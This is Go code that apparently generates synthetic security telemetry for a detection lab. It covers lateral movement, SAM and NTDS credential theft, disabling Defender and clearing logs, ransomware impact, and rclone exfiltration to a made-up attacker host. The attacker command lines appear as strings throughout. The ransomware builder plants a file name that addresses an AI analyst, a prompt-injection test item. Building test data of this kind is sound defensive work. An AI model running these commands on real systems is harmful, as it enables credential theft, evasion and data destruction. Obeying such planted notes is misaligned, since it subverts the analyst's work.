package lab

import (
	"fmt"
	"strings"
	"time"
)

var _ = register(&Kind{
	Name:        "lateral-movement",
	Description: "lateral movement with harvested admin credentials: a PsExec-style remote service, WMI process creation and WinRM to other servers",
	Techniques:  []string{"T1021.002", "T1569.002", "T1047", "T1021.006", "T1078.002"},
	Tactics:     []string{"lateral-movement", "execution"},
	Tables:      []string{tProcess, tNetwork, tLogon, tFile, tSecurity},
	build:       buildLateral,
})

// source returns where hands-on-keyboard activity comes from: the chain's
// foothold, or an admin's usual path through the jump host.
func (b *builder) source() (*Host, *proc, time.Time) {
	if b.c.psProc != nil {
		return b.c.psProc.Host, b.c.psProc, b.c.lsassTime
	}
	p, t := b.foothold(6 * time.Hour)
	return p.Host, p, t
}

// admin returns the privileged account the attacker uses.
func (b *builder) admin() *account {
	u := b.c.harvested
	if u == nil {
		u = pick(b.r, b.g.o.Admins)
		b.c.harvested = u
	}
	b.in.user(u)
	return b.g.o.acct(u)
}

// netLogon records a network logon of acct on target from src.
func (b *builder) netLogon(target *Host, srcIP, srcName string, acct *account, t time.Time, proto string) *logon {
	bt := b.g.bootModel(target, b.g.bootIndex(target, t))
	l := &logon{Host: target, T: t, Acct: acct, Type: "Network", OK: true, Protocol: proto, RemoteIP: srcIP,
		RemotePort: ephemeralPort(b.r), RemoteName: srcName, LogonID: int64(0x10000000 + b.r.IntN(0x3fffffff)), Initiator: bt.byKey["lsass"]}
	b.logon(l)
	return l
}

// targets picks servers to move to, the most valuable first.
func (b *builder) targets(n int, exclude *Host) []*Host {
	o := b.g.o
	var cands []*Host
	for _, k := range []hostKind{kindFile, kindDC, kindSQL, kindBackup, kindMgmt} {
		for _, h := range o.kind(k) {
			if h != exclude {
				cands = append(cands, h)
			}
		}
	}
	if n > len(cands) {
		n = len(cands)
	}
	return cands[:n]
}

func buildLateral(b *builder) error {
	g, r, in := b.g, b.r, b.in
	src, parent, t := b.source()
	in.host(src)
	acct := b.admin()
	t = b.after(t, 25*time.Minute)
	targets := b.targets(2+r.IntN(2), src)
	methods := shuffled(r, []string{"psexec", "wmi", "winrm"})
	psexec := custom(g.o.seed, pick(r, []string{"PsExec64.exe", "PsExec.exe", "px.exe"}), `C:\ProgramData`, "Sysinternals - www.sysinternals.com", "Sysinternals PsExec", "2.43", "Execute processes remotely", 833472)
	svcName := pick(r, []string{"PSEXESVC", strings.ToUpper(alnum(r, 6)), "BTOBTO"})
	for i, tg := range targets {
		in.host(tg)
		at := t.Add(time.Duration(i) * time.Duration(8+r.IntN(25)) * time.Minute).Truncate(time.Microsecond)
		cmd := pick(r, []string{"ipconfig /all", "net localgroup administrators", "quser", "tasklist /v", `dir C:\Users`, "whoami /priv"})
		switch methods[i%len(methods)] {
		case "psexec":
			tool := b.spawn(parent, at, psexec, fmt.Sprintf(`%s \\%s -accepteula -s -d cmd.exe /c "%s"`, psexec.Name, tg.Name, cmd))
			b.lateralConn(src, tg, tool, at, 445)
			l := b.netLogon(tg, src.IP, strings.ToUpper(src.Name), acct, at.Add(300*time.Millisecond), "NTLM")
			b.remoteService(tg, src, acct, l, at.Add(900*time.Millisecond), svcName, cmd)
		case "wmi":
			tool := b.spawn(parent, at, g.bin(src, "wmic"), fmt.Sprintf(`wmic.exe /node:"%s" process call create "cmd.exe /c %s > C:\Windows\Temp\%s.txt"`, tg.Name, cmd, strings.ToLower(alnum(r, 4))))
			b.lateralConn(src, tg, tool, at, 135)
			b.lateralConn(src, tg, tool, at.Add(200*time.Millisecond), 49152+r.IntN(10000))
			b.netLogon(tg, src.IP, strings.ToUpper(src.Name), acct, at.Add(150*time.Millisecond), "Kerberos")
			bt := g.bootModel(tg, g.bootIndex(tg, at))
			wmi := &proc{Host: tg, PID: int64(4 * (500 + r.IntN(9000))), T: at.Add(700 * time.Millisecond), Bin: g.bin(tg, "wmiprvse"),
				Path: g.bin(tg, "wmiprvse").path(""), Cmd: `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, Acct: acctNetwork,
				LogonID: 0x3e4, Integrity: "System", Elevation: "TokenElevationTypeDefault", Parent: bt.byKey["svchost:DcomLaunch"]}
			b.proc(wmi)
			c := child(g, r, wmi, at.Add(900*time.Millisecond), g.bin(tg, "cmd"), "", fmt.Sprintf(`cmd.exe /c %s > C:\Windows\Temp\%s.txt`, cmd, strings.ToLower(alnum(r, 4))))
			c.Acct, c.Integrity, c.Elevation = acct, "High", "TokenElevationTypeFull"
			b.proc(c)
			b.conhost(c)
		default:
			b.lateralConn(src, tg, parent, at, 5985)
			l := b.netLogon(tg, src.IP, strings.ToUpper(src.Name), acct, at.Add(200*time.Millisecond), "Kerberos")
			bt := g.bootModel(tg, g.bootIndex(tg, at))
			ws := &proc{Host: tg, PID: int64(4 * (500 + r.IntN(9000))), T: at.Add(600 * time.Millisecond), Bin: g.bin(tg, "wsmprovhost"),
				Path: g.bin(tg, "wsmprovhost").path(""), Cmd: `C:\Windows\system32\wsmprovhost.exe -Embedding`, Acct: acct,
				LogonID: l.LogonID, Integrity: "High", Elevation: "TokenElevationTypeFull", Parent: bt.byKey["svchost:DcomLaunch"]}
			b.proc(ws)
			tool := strings.Fields(cmd)[0]
			key := map[string]string{"ipconfig": "ipconfig", "net": "net", "quser": "cmd", "tasklist": "cmd", "dir": "cmd", "whoami": "whoami"}[tool]
			c := child(g, r, ws, at.Add(2*time.Second), g.bin(tg, key), "", cmd)
			if key == "cmd" {
				c.Cmd = `"C:\Windows\system32\cmd.exe" /c ` + cmd
			}
			b.proc(c)
		}
		b.c.lateralTo = append(b.c.lateralTo, tg)
	}
	return nil
}

// lateralConn records both ends of a connection between two of our hosts.
func (b *builder) lateralConn(src, dst *Host, p *proc, t time.Time, port int) {
	g, r := b.g, b.r
	lp := ephemeralPort(r)
	b.in.add(g.networkRow(&conn{Host: src, T: t, Action: "ConnectionSuccess", Proc: p, LocalIP: src.IP, LocalPort: lp,
		RemoteIP: dst.IP, RemotePort: port, Protocol: "Tcp"}))
	bt := g.bootModel(dst, g.bootIndex(dst, t))
	owner := bt.byKey["system"]
	switch port {
	case 135:
		owner = bt.byKey["svchost:RPCSS"]
	case 5985:
		owner = bt.byKey["svchost:NetworkService"]
	}
	if port > 49151 {
		owner = bt.byKey["svchost:DcomLaunch"]
	}
	b.in.add(g.networkRow(&conn{Host: dst, T: t.Add(2 * time.Millisecond), Action: "InboundConnectionAccepted", Proc: owner,
		LocalIP: dst.IP, LocalPort: port, RemoteIP: src.IP, RemotePort: lp, Protocol: "Tcp"}))
}

// remoteService records a service binary copied over ADMIN$, installed and
// run by services.exe, as PsExec and its clones do, in the network logon
// session l: the 4697 carries that session's logon ID.
func (b *builder) remoteService(tg, src *Host, acct *account, l *logon, t time.Time, name, cmd string) *proc {
	g, r, in := b.g, b.r, b.in
	exe := name + ".exe"
	svcBin := custom(g.o.seed, exe, `C:\Windows`, "Sysinternals", "Sysinternals PsExec", "2.43", "PsExec Service", 191376)
	if name != "PSEXESVC" {
		svcBin = custom(g.o.seed, exe, `C:\Windows`, "", "", "", "", int64(60000+r.IntN(200000)))
	}
	bt := g.bootModel(tg, g.bootIndex(tg, t))
	in.add(g.fileRow(&fileEv{Host: tg, T: t, Action: "FileCreated", Proc: bt.byKey["system"], Name: exe, Dir: `C:\Windows`,
		Size: svcBin.Size, ShareName: "ADMIN$", ReqIP: src.IP, ReqPort: ephemeralPort(r), ReqAccount: acct.User.SAM,
		ReqDomain: g.o.NetBIOS, ReqSID: acct.SID, h: &svcBin.h}))
	if tg.Kind.server() {
		s := g.secRow(tg, t.Add(200*time.Millisecond), 4697, "4697 - A service was installed in the system.")
		s.Set("Account", g.o.NetBIOS+`\`+acct.User.SAM).Set("AccountType", "User").Set("SubjectUserName", acct.User.SAM).
			Set("SubjectDomainName", g.o.NetBIOS).Set("SubjectUserSid", acct.SID).Set("SubjectLogonId", hexStr(l.LogonID)).
			Set("ServiceName", name).Set("ServiceFileName", `%SystemRoot%\`+exe).Set("ServiceType", "0x10").
			Set("ServiceStartType", "3").Set("ServiceAccount", "LocalSystem")
		in.add(s)
	}
	svc := &proc{Host: tg, PID: int64(4 * (500 + r.IntN(9000))), T: t.Add(400 * time.Millisecond), Bin: svcBin, Path: svcBin.path(""),
		Cmd: `C:\Windows\` + exe, Acct: acctSystem, LogonID: 0x3e7, Integrity: "System", Elevation: "TokenElevationTypeDefault", Parent: bt.byKey["services"]}
	b.proc(svc)
	c := child(g, r, svc, t.Add(700*time.Millisecond), g.bin(tg, "cmd"), "", fmt.Sprintf(`"cmd.exe" /c "%s"`, cmd))
	b.proc(c)
	b.conhost(c)
	return c
}

var _ = register(&Kind{
	Name:        "credential-theft-sam-ntds",
	Description: "copies of the SAM, SYSTEM and SECURITY hives with reg save, and of the domain database with ntdsutil IFM on a domain controller",
	Techniques:  []string{"T1003.002", "T1003.003"},
	Tactics:     []string{"credential-access"},
	Tables:      []string{tProcess, tFile, tLogon, tSecurity},
	build:       buildNTDS,
})

func buildNTDS(b *builder) error {
	g, r, in := b.g, b.r, b.in
	src, _, t := b.source()
	in.host(src)
	acct := b.admin()
	dc := pick(r, g.o.kind(kindDC))
	in.host(dc)
	t = b.after(t, 50*time.Minute)
	bt := g.bootModel(dc, g.bootIndex(dc, t))
	l := &logon{Host: dc, T: t, Acct: acct, Type: "RemoteInteractive", OK: true, Protocol: "Negotiate", RemoteIP: src.IP,
		RemoteName: strings.ToUpper(src.Name), LogonID: int64(0x10000000 + r.IntN(0x3fffffff)), Initiator: bt.byKey["lsass"]}
	b.logon(l)
	mk := func(key string, parent *proc, at time.Time, cmd string) *proc {
		bin := g.bin(dc, key)
		p := &proc{Host: dc, PID: int64(4 * (600 + r.IntN(9000))), T: at.Truncate(time.Microsecond), Bin: bin, Path: bin.path(""), Cmd: cmd,
			Acct: acct, LogonID: l.LogonID, Integrity: "High", Elevation: "TokenElevationTypeFull", Parent: parent}
		b.proc(p)
		return p
	}
	ui := mk("userinit", bt.byKey["winlogon"], t.Add(2*time.Second), `C:\Windows\system32\userinit.exe`)
	ex := mk("explorer", ui, t.Add(3*time.Second), `C:\Windows\Explorer.EXE`)
	at := t.Add(time.Duration(40+r.IntN(120)) * time.Second)
	cmd := mk("cmd", ex, at, `"C:\Windows\system32\cmd.exe" `)
	b.conhost(cmd)
	dir := fmt.Sprintf(`C:\Windows\Temp\%s`, pick(r, []string{"ifm", "ntds_" + strings.ToLower(alnum(r, 4)), "bk", "tmp" + fmt.Sprint(r.IntN(100))}))
	at = at.Add(time.Duration(10+r.IntN(60)) * time.Second)
	nt := mk("ntdsutil", cmd, at, fmt.Sprintf(`ntdsutil  "ac i ntds" "ifm" "create full %s" q q`, dir))
	for i, f := range []struct{ dir, name string }{{dir + `\Active Directory`, "ntds.dit"}, {dir + `\Active Directory`, "ntds.jfm"}, {dir + `\registry`, "SYSTEM"}, {dir + `\registry`, "SECURITY"}} {
		size := int64(20_000_000 + r.IntN(80_000_000))
		if i > 0 {
			size = int64(16384 + r.IntN(20_000_000))
		}
		in.add(g.fileRow(&fileEv{Host: dc, T: at.Add(time.Duration(5+i*3+r.IntN(20)) * time.Second).Truncate(time.Microsecond), Action: "FileCreated",
			Proc: nt, Name: f.name, Dir: f.dir, Size: size}))
	}
	at = at.Add(time.Duration(60+r.IntN(120)) * time.Second)
	for i, hive := range []string{"SAM", "SYSTEM", "SECURITY"} {
		out := fmt.Sprintf(`C:\Windows\Temp\%s.%s`, strings.ToLower(hive), pick(r, []string{"save", "hiv", "bak"}))
		rp := mk("reg", cmd, at.Add(time.Duration(i*(3+r.IntN(8)))*time.Second), fmt.Sprintf(`reg  save HKLM\%s %s /y`, hive, out))
		in.add(g.fileRow(&fileEv{Host: dc, T: rp.T.Add(800 * time.Millisecond), Action: "FileCreated", Proc: rp, Name: base(out),
			Dir: `C:\Windows\Temp`, Size: int64(40000 + r.IntN(30_000_000))}))
	}
	return nil
}

var _ = register(&Kind{
	Name:        "defense-evasion",
	Description: "Microsoft Defender real-time protection switched off and its policy changed, then the Security and System event logs cleared",
	Techniques:  []string{"T1562.001", "T1070.001"},
	Tactics:     []string{"defense-evasion"},
	Tables:      []string{tProcess, tRegistry, tSecurity, tLogon},
	build:       buildEvasion,
})

func buildEvasion(b *builder) error {
	g, r, in := b.g, b.r, b.in
	src, _, t := b.source()
	acct := b.admin()
	tg := g.o.first(kindFile)
	if len(b.c.lateralTo) > 0 {
		tg = b.c.lateralTo[0]
	}
	in.host(tg)
	in.host(src)
	t = b.after(t, 80*time.Minute)
	l := b.netLogon(tg, src.IP, strings.ToUpper(src.Name), acct, t, "Kerberos")
	bt := g.bootModel(tg, g.bootIndex(tg, t))
	ws := &proc{Host: tg, PID: int64(4 * (500 + r.IntN(9000))), T: t.Add(500 * time.Millisecond), Bin: g.bin(tg, "wsmprovhost"),
		Path: g.bin(tg, "wsmprovhost").path(""), Cmd: `C:\Windows\system32\wsmprovhost.exe -Embedding`, Acct: acct,
		LogonID: l.LogonID, Integrity: "High", Elevation: "TokenElevationTypeFull", Parent: bt.byKey["svchost:DcomLaunch"]}
	b.proc(ws)
	at := t.Add(time.Duration(5+r.IntN(30)) * time.Second).Truncate(time.Microsecond)
	b.spawn(ws, at, g.bin(tg, "powershell"), `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -Command "Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true -DisableScriptScanning $true"`)
	for i, v := range []string{"DisableRealtimeMonitoring", "DisableBehaviorMonitoring", "DisableIOAVProtection", "DisableScriptScanning"} {
		in.add(g.registryRow(&regEv{Host: tg, T: at.Add(time.Duration(900+i*40) * time.Millisecond), Action: "RegistryValueSet", Proc: bt.byKey["msmpeng"],
			Key: `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection`, ValueName: v, ValueType: "Dword", Data: "1", PrevData: "0"}))
	}
	at = at.Add(time.Duration(20+r.IntN(60)) * time.Second)
	rg := b.spawn(ws, at, g.bin(tg, "reg"), `"C:\Windows\system32\reg.exe" add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`)
	in.add(g.registryRow(&regEv{Host: tg, T: at.Add(80 * time.Millisecond), Action: "RegistryValueSet", Proc: rg,
		Key: `HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender`, ValueName: "DisableAntiSpyware", ValueType: "Dword", Data: "1"}))
	at = at.Add(time.Duration(60+r.IntN(600)) * time.Second)
	for i, log := range []string{"Security", "System", `"Microsoft-Windows-PowerShell/Operational"`} {
		ct := at.Add(time.Duration(i*(2+r.IntN(5))) * time.Second).Truncate(time.Microsecond)
		b.spawn(ws, ct, g.bin(tg, "wevtutil"), fmt.Sprintf(`"C:\Windows\system32\wevtutil.exe" cl %s`, log))
		if log == "Security" && tg.Kind.server() {
			s := g.secRow(tg, ct.Add(300*time.Millisecond), 1102, "1102 - The audit log was cleared.")
			s.Set("EventSourceName", "Microsoft-Windows-Eventlog").Set("Account", g.o.NetBIOS+`\`+acct.User.SAM).Set("AccountType", "User").
				Set("SubjectUserName", acct.User.SAM).Set("SubjectDomainName", g.o.NetBIOS).Set("SubjectUserSid", acct.SID).Set("SubjectLogonId", hexStr(l.LogonID))
			in.add(s)
		}
	}
	return nil
}

var _ = register(&Kind{
	Name:        "ransomware-impact",
	Description: "shadow copies deleted and recovery disabled, then hundreds of files on a file server renamed to an unknown extension with ransom notes",
	Techniques:  []string{"T1490", "T1486", "T1569.002"},
	Tactics:     []string{"impact", "execution"},
	Tables:      []string{tProcess, tFile, tLogon, tSecurity},
	build:       buildRansom,
})

func buildRansom(b *builder) error {
	g, r, in := b.g, b.r, b.in
	src, _, t := b.source()
	acct := b.admin()
	fs := g.o.first(kindFile)
	in.host(fs)
	in.host(src)
	t = b.after(t, 2*time.Hour)
	l := b.netLogon(fs, src.IP, strings.ToUpper(src.Name), acct, t, "NTLM")
	name := pick(r, []string{"svc", "upd", "win", "sys"}) + strings.ToLower(alnum(r, 4))
	c := b.remoteService(fs, src, acct, l, t.Add(time.Second), strings.ToUpper(alnum(r, 7)), `C:\Users\Public\`+name+".exe")
	payload := custom(g.o.seed, name+".exe", `C:\Users\Public`, "", "", "", "", int64(200000+r.IntN(3000000)))
	in.add(g.fileRow(&fileEv{Host: fs, T: c.T.Add(-10 * time.Second), Action: "FileCreated", Proc: g.bootModel(fs, g.bootIndex(fs, t)).byKey["system"],
		Name: payload.Name, Dir: payload.Dir, Size: payload.Size, ShareName: "C$", ReqIP: src.IP, ReqPort: ephemeralPort(r),
		ReqAccount: acct.User.SAM, ReqDomain: g.o.NetBIOS, ReqSID: acct.SID, h: &payload.h}))
	p := child(g, r, c, c.T.Add(500*time.Millisecond), payload, "", `C:\Users\Public\`+name+".exe")
	p.Acct, p.Integrity = acctSystem, "System"
	b.proc(p)
	at := p.T.Add(2 * time.Second)
	for _, cmd := range shuffled(r, []struct{ key, line string }{
		{"vssadmin", `vssadmin.exe delete shadows /all /quiet`},
		{"wmic", `wmic.exe shadowcopy delete`},
		{"bcdedit", `bcdedit.exe /set {default} recoveryenabled No`},
		{"bcdedit", `bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures`},
	}) {
		at = at.Add(time.Duration(300+r.IntN(2000)) * time.Millisecond).Truncate(time.Microsecond)
		b.spawn(p, at, g.bin(fs, cmd.key), cmd.line)
	}
	ext := "." + strings.ToLower(alnum(r, 5+r.IntN(3)))
	note := pick(r, []string{"README", "HOW_TO_DECRYPT", "RESTORE-FILES", "!!!READ_ME!!!"}) + ext + ".txt"
	shares := []string{}
	for _, d := range departments {
		shares = append(shares, strings.ReplaceAll(d, " ", ""))
	}
	at = at.Add(time.Duration(30+r.IntN(120)) * time.Second)
	n := 300 + r.IntN(1200)
	noted := map[string]bool{}
	for i := 0; i < n; i++ {
		dir := `D:\Shares\` + pick(r, shares) + `\` + pick(r, docSubjects)
		old := docName(r)
		in.add(g.fileRow(&fileEv{Host: fs, T: at, Action: "FileRenamed", Proc: p, Name: old + ext, Dir: dir, PrevName: old, PrevDir: dir,
			Size: int64(10000 + r.IntN(8000000))}))
		if !noted[dir] {
			noted[dir] = true
			in.add(g.fileRow(&fileEv{Host: fs, T: at.Add(time.Millisecond), Action: "FileCreated", Proc: p, Name: note, Dir: dir, Size: int64(1800 + r.IntN(900))}))
		}
		at = at.Add(time.Duration(50+r.IntN(700)) * time.Millisecond).Truncate(time.Microsecond)
	}
	// one note whose very name addresses an AI analyst
	text := b.injection()
	fname := strings.NewReplacer(" ", "_", ",", "", ":", "", ";", "", "(", "", ")", "", "#", "", "/", "_", "\\", "_").Replace(text) + ".txt"
	row := g.fileRow(&fileEv{Host: fs, T: at, Action: "FileCreated", Proc: p, Name: fname, Dir: `D:\Shares`, Size: int64(2000 + r.IntN(500))})
	in.add(row)
	in.inject(row, "FileName", fname)
	return nil
}

var _ = register(&Kind{
	Name:        "exfiltration",
	Description: "a database backup archived with 7-Zip and uploaded with rclone to a host the organisation never talks to, gigabytes in an hour",
	Techniques:  []string{"T1560.001", "T1567.002", "T1048"},
	Tactics:     []string{"collection", "exfiltration"},
	Tables:      []string{tProcess, tNetwork, tFile, tNetflow, tLogon, tSecurity},
	build:       buildExfil,
})

func buildExfil(b *builder) error {
	g, r, in := b.g, b.r, b.in
	src, _, t := b.source()
	acct := b.admin()
	h := g.o.first(kindSQL)
	if h == nil {
		h = g.o.first(kindWeb)
	}
	in.host(h)
	in.host(src)
	t = b.after(t, 3*time.Hour)
	l := b.netLogon(h, src.IP, strings.ToUpper(src.Name), acct, t, "Kerberos")
	bt := g.bootModel(h, g.bootIndex(h, t))
	ws := &proc{Host: h, PID: int64(4 * (500 + r.IntN(9000))), T: t.Add(500 * time.Millisecond), Bin: g.bin(h, "wsmprovhost"),
		Path: g.bin(h, "wsmprovhost").path(""), Cmd: `C:\Windows\system32\wsmprovhost.exe -Embedding`, Acct: acct,
		LogonID: l.LogonID, Integrity: "High", Elevation: "TokenElevationTypeFull", Parent: bt.byKey["svchost:DcomLaunch"]}
	b.proc(ws)
	at := t.Add(time.Duration(20+r.IntN(60)) * time.Second).Truncate(time.Microsecond)
	arch := fmt.Sprintf(`C:\ProgramData\%s.7z`, pick(r, []string{"db_backup", "export", "archive_" + fmt.Sprint(r.IntN(100)), "data"}))
	zip := b.spawn(ws, at, g.bin(h, "7z"), fmt.Sprintf(`"C:\Program Files\7-Zip\7z.exe" a -mx1 -p%s %s D:\SQLBackup\*.bak`, alnum(r, 10), arch))
	size := int64(2_000_000_000 + r.Int64N(6_000_000_000))
	in.add(g.fileRow(&fileEv{Host: h, T: at.Add(time.Duration(3+r.IntN(8)) * time.Minute).Truncate(time.Microsecond), Action: "FileCreated",
		Proc: zip, Name: base(arch), Dir: `C:\ProgramData`, Size: size}))
	dst := b.attacker(h.Site.City.Country)
	in.ip(dst.IP)
	host := pick(r, []string{"%s.mega.co.nz", "files.%s.com", "%s.storage.filebase.io", "s3.%s.cloud"})
	host = fmt.Sprintf(host, strings.ToLower(alnum(r, 8)))
	rc := custom(g.o.seed, pick(r, []string{"rclone.exe", "svcsync.exe", "msupdate.exe"}), `C:\ProgramData`, "https://rclone.org", "Rclone", "1.66.0", "Rsync for cloud storage", 52_000_000)
	in.add(g.fileRow(&fileEv{Host: h, T: at.Add(5 * time.Minute).Add(-20 * time.Second), Action: "FileCreated", Proc: ws, Name: rc.Name, Dir: rc.Dir, Size: rc.Size, h: &rc.h}))
	up := b.spawn(ws, at.Add(5*time.Minute+time.Duration(r.IntN(600))*time.Second), rc,
		fmt.Sprintf(`%s copy %s remote:%s --config C:\ProgramData\rclone.conf --transfers 8 --no-check-certificate -q`, rc.Name, arch, strings.ToLower(alnum(r, 6))))
	dur := time.Duration(40+r.IntN(80)) * time.Minute
	if lim := g.win.To.Add(-20 * time.Minute).Sub(up.T); dur > lim {
		dur = max(lim, time.Minute)
	}
	n := 20 + r.IntN(40)
	for i := 0; i < n; i++ {
		ct := up.T.Add(time.Duration(i) * dur / time.Duration(n)).Add(time.Duration(r.IntN(5000)) * time.Millisecond).Truncate(time.Microsecond)
		in.add(g.networkRow(&conn{Host: h, T: ct, Action: "ConnectionSuccess", Proc: up, LocalIP: h.IP, LocalPort: ephemeralPort(r),
			RemoteIP: dst.IP, RemotePort: 443, URL: host, Protocol: "Tcp"}))
	}
	// the volume as Traffic Analytics sees it, per clock hour
	end := up.T.Add(dur)
	for hb := up.T.Truncate(time.Hour); hb.Before(end); hb = hb.Add(time.Hour) {
		from, to := maxTime(hb, up.T), minTime(hb.Add(time.Hour), end)
		share := float64(to.Sub(from)) / float64(dur)
		bytes := int64(float64(size) * share)
		ft := hb.Add(time.Hour).Add(time.Duration(5+r.IntN(9)) * time.Minute).Truncate(time.Microsecond)
		if !g.win.contains(ft) {
			continue
		}
		k := 8 + r.IntN(20)
		in.add(g.flowRow(&flow{T: ft, Interval: time.Hour, VM: h, Type: "ExternalPublic", Direction: "O", Status: "A", Peer: dst.IP,
			Country: dst.City.Country, Port: 443, Proto: "T", L7: "https", Flows: k, OutPackets: bytes / 1400, InPackets: bytes / 9000,
			OutBytes: bytes, InBytes: bytes / 60, Rule: "DefaultRule_AllowInternetOutBound"}))
	}
	return nil
}

func maxTime(a, b time.Time) time.Time {
	if a.After(b) {
		return a
	}
	return b
}

func minTime(a, b time.Time) time.Time {
	if a.Before(b) {
		return a
	}
	return b
}
